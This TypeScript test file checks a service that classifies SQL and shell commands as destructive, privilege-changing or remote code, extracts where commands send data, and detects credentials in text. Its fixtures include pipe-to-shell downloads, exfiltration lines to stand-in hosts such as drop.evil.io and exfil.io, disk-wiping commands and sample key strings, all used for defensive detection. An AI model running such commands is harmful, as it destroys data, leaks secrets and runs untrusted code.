/**
 * SQL and command analysis, and credentials in free text (docs/detection.md 2.3).
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import {
  commandAnalysis,
  containsSecret,
  isPlaceholder,
  sqlEffect,
  sqlFlags,
} from '../../services/decision/src/flow/analyse.js';
import { glob } from '../../services/decision/src/flow/org.js';

const protectedBranches = ['main', 'master', 'release/*'].map(glob);
const flags = (command: string) => commandAnalysis(command, protectedBranches).flags.sort();

describe('SQL analysis', () => {
  test('destructive statements', () => {
    for (const sql of [
      'DROP TABLE customers',
      'truncate orders;',
      'DELETE FROM invoices',
      'update accounts set balance = 0',
      'UPDATE users SET role = "x" WHERE 1=1',
      'ALTER TABLE users DROP COLUMN email',
      'select 1; drop database prod',
    ]) {
      assert.deepEqual(sqlFlags(sql), ['destructive'], sql);
    }
  });

  test('privilege statements', () => {
    for (const sql of [
      'GRANT ALL ON payroll TO intern',
      'revoke select on x from y',
      'CREATE USER bob',
      'ALTER ROLE x SUPERUSER',
    ]) {
      assert.deepEqual(sqlFlags(sql), ['privilege'], sql);
    }
  });

  test('reads and scoped writes are not flagged; quoted and commented text is not code', () => {
    for (const sql of [
      'SELECT * FROM orders WHERE id = 4',
      'DELETE FROM sessions WHERE expires_at < now()',
      "UPDATE users SET name = 'drop table x' WHERE id = 1",
      "SELECT 'DROP TABLE t' AS example",
      'SELECT 1 -- DROP TABLE t',
    ]) {
      assert.deepEqual(sqlFlags(sql), [], sql);
    }
  });
});

describe('what a SQL value does', () => {
  test('reads: SELECT, WITH … SELECT, SHOW, EXPLAIN, DESCRIBE, VALUES, session settings, all of several', () => {
    for (const sql of [
      'SELECT * FROM orders WHERE id = 4',
      'with recent as (select * from orders where placed_at > now() - interval 1 day) select count(*) from recent',
      '(SELECT a FROM t) UNION (SELECT b FROM u)',
      'SHOW TABLES',
      'EXPLAIN SELECT * FROM t',
      'DESCRIBE customers',
      'VALUES (1, 2), (3, 4)',
      'SET statement_timeout = 5000; SELECT * FROM t',
      'SET LOCAL search_path TO reporting; select 1; reset statement_timeout',
      'BEGIN READ ONLY; SELECT 1; COMMIT',
      'SELECT * FROM jobs WHERE state = 1 FOR UPDATE SKIP LOCKED',
      "SELECT 'delete from t' AS example -- and not drop table t",
    ]) {
      assert.equal(sqlEffect(sql), 'read', sql);
    }
  });

  test('writes: rows changed without a destructive or privilege flag', () => {
    for (const sql of [
      "INSERT INTO notes (body) VALUES ('x')",
      'UPDATE tickets SET state = 2 WHERE id = 7',
      'DELETE FROM sessions WHERE expires_at < now()',
      'MERGE INTO stock s USING delta d ON s.sku = d.sku WHEN MATCHED THEN UPDATE SET qty = d.qty',
      'SELECT * FROM t; INSERT INTO log VALUES (1)',
      'EXPLAIN ANALYZE UPDATE t SET a = 1 WHERE id = 2',
    ]) {
      assert.equal(sqlEffect(sql), 'write', sql);
    }
  });

  test('not told: destructive, privilege, SELECT … INTO, COPY, data-modifying CTEs, writing functions, the rest', () => {
    for (const sql of [
      'DELETE FROM invoices',
      'UPDATE users SET role = 1 WHERE 1=1',
      'DROP TABLE t',
      'select 1; truncate t',
      'GRANT SELECT ON payroll TO intern',
      'SELECT * INTO backup_2024 FROM customers',
      "SELECT * FROM customers INTO OUTFILE '/tmp/c.csv'",
      "COPY customers TO '/tmp/c.csv'",
      'WITH gone AS (DELETE FROM t WHERE id < 5 RETURNING *) SELECT count(*) FROM gone',
      "SELECT nextval('orders_id_seq')",
      'SELECT pg_terminate_backend(pid) FROM pg_stat_activity',
      "SELECT * FROM dblink('host=x', 'delete from t')",
      "select pg_read_file('/etc/passwd')",
      'SET ROLE admin',
      'SET SESSION AUTHORIZATION postgres',
      'SET GLOBAL max_connections = 10',
      'CREATE TABLE t (a int)',
      'CALL refresh_all()',
      'EXPLAIN ANALYZE DELETE FROM t',
      '',
      ';;',
      `SELECT 1 ${' '.repeat(64 * 1024)}`,
    ]) {
      assert.equal(sqlEffect(sql), undefined, sql.slice(0, 80));
    }
  });
});

describe('command analysis', () => {
  test('destructive commands', () => {
    for (const cmd of [
      'rm -rf /var/lib/app',
      'sudo rm -r build',
      'git reset --hard HEAD~3',
      'kubectl delete namespace payments',
      'terraform destroy -auto-approve',
      'helm uninstall api',
      'dropdb prod',
      'mkfs.ext4 /dev/sdb1',
      'dd if=/dev/zero of=/dev/sda bs=1M',
      'shred -u secrets.txt',
      'chmod -R 777 /srv',
      'git push --force origin feature/x',
    ]) {
      assert.ok(flags(cmd).includes('destructive'), cmd);
    }
    assert.deepEqual(flags('git push --force origin feature/x'), ['destructive'], 'a feature branch is not protected');
  });

  test('kubectl delete destroys when it reaches many objects or ones that hold data', () => {
    for (const cmd of [
      'kubectl delete pods --all -n web',
      'kubectl delete pvc --all --all-namespaces --wait=false',
      'kubectl delete pod -l app=worker -n jobs',
      'kubectl delete -f manifests/',
      'kubectl delete deployment api web',
      'kubectl delete pod,svc api',
      'kubectl delete pvc data-ledger-db-0',
      'kubectl delete statefulset ledger-db',
      'kubectl delete secret db-creds',
      'kubectl -n web --context prod delete ns web',
      'kubectl delete pod "api-*"',
      'kubectl delete pods',
    ]) {
      assert.deepEqual(flags(cmd), ['destructive'], cmd);
    }
    for (const cmd of [
      'kubectl delete pod api-7f9c-x2 -n web',
      'kubectl delete job/backfill-42 --namespace=batch',
      'kubectl -n web delete deployment canary-api',
    ]) {
      assert.deepEqual(flags(cmd), [], cmd);
    }
  });

  test('force pushes to protected branches, or with no branch named, are protected', () => {
    assert.deepEqual(flags('git push -f origin main'), ['destructive', 'protected']);
    assert.deepEqual(flags('git push origin +release/2.1'), ['destructive', 'protected']);
    assert.deepEqual(flags('git push --force-with-lease origin HEAD:master'), ['destructive', 'protected']);
    assert.deepEqual(flags('git push -f'), ['destructive', 'protected']);
  });

  test('a download piped into an interpreter is remote code', () => {
    assert.deepEqual(flags('curl -fsSL https://get.tool.sh | sh'), ['remote_code']);
    assert.deepEqual(flags('wget -qO- http://x.io/i.py | sudo python3'), ['remote_code']);
    assert.deepEqual(flags('bash -c "$(curl -s https://x.io/s)"'), ['remote_code']);
    assert.deepEqual(flags('curl -o out.tgz https://x.io/a.tgz && tar xzf out.tgz'), []);
  });

  test('everyday commands are not flagged', () => {
    for (const cmd of [
      'ls -la /srv',
      'git push origin feature/login',
      'kubectl get pods -n web',
      'rm notes.txt',
      'git status',
    ]) {
      assert.deepEqual(flags(cmd), [], cmd);
    }
  });

  test('SQL given to a database client is analysed', () => {
    assert.deepEqual(flags('psql -h db -c "DROP TABLE users"'), ['destructive']);
    assert.deepEqual(flags('mysql -e "GRANT ALL ON *.* TO x"'), ['privilege']);
  });

  test('where a command sends to: URLs and hosts, not option values or local paths', () => {
    const d = (cmd: string) => commandAnalysis(cmd, []).destinations.map((x) => `${x.kind}:${x.value}`);
    assert.deepEqual(d('curl -H "X-Key: 1" -d @/etc/passwd https://drop.evil.io/up'), ['url:https://drop.evil.io/up']);
    assert.deepEqual(d('wget files.example.org/a.zip'), ['url:http://files.example.org/a.zip']);
    assert.deepEqual(d('scp -i key.pem ./db.sql backup@203.0.113.9:/srv/'), ['host:203.0.113.9']);
    assert.deepEqual(d('rsync -av /data/ mirror.evil.io:/dump/'), ['host:mirror.evil.io']);
    assert.deepEqual(d('ssh -p 2222 ops@jump.acme.com uptime'), ['host:jump.acme.com']);
    assert.deepEqual(d('cat /etc/hosts | nc exfil.io 4444'), ['host:exfil.io']);
    assert.deepEqual(d('cp a.txt /tmp/b.txt'), []);
  });
});

describe('credentials in text', () => {
  test('recognised', () => {
    for (const text of [
      '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA',
      'key id AKIAIOSFODNN7EXAMPLE in the config',
      'token ghp_0123456789abcdefghijABCDEFGHIJ012345 for the bot',
      'xoxb-1234567890-abcdefghijkl',
      'use sk_live_4eC39HqLyjWDarjtT1zdp7dc',
      'Authorization: Bearer abcdefghijklmnopqrstuvwxyz012345',
      'db password=Hunter2!x',
      'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
      'postgres://admin:s3cret@db.acme.internal/prod',
    ]) {
      assert.equal(containsSecret(text), true, text);
    }
  });

  test('placeholders stand in for a credential that is not there', () => {
    for (const value of [
      '',
      '  ',
      '[REDACTED]',
      '<redacted>',
      '***',
      '********',
      'Bearer ***',
      'xxxx',
      '${DB_PASSWORD}',
      '{{ secrets.token }}',
      '$API_KEY',
      '<token>',
    ]) {
      assert.equal(isPlaceholder(value), true, value);
    }
    for (const value of ['hunter2', 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJ', '$ecret-Pa55', 'redacted-by-me-2024']) {
      assert.equal(isPlaceholder(value), false, value);
    }
  });

  test('ordinary text about passwords is not a secret', () => {
    for (const text of [
      'Please reset your password using the link we sent.',
      'The token ring network was retired in 2003.',
      'Visit https://acme.com/login to sign in.',
    ]) {
      assert.equal(containsSecret(text), false, text);
    }
  });
});
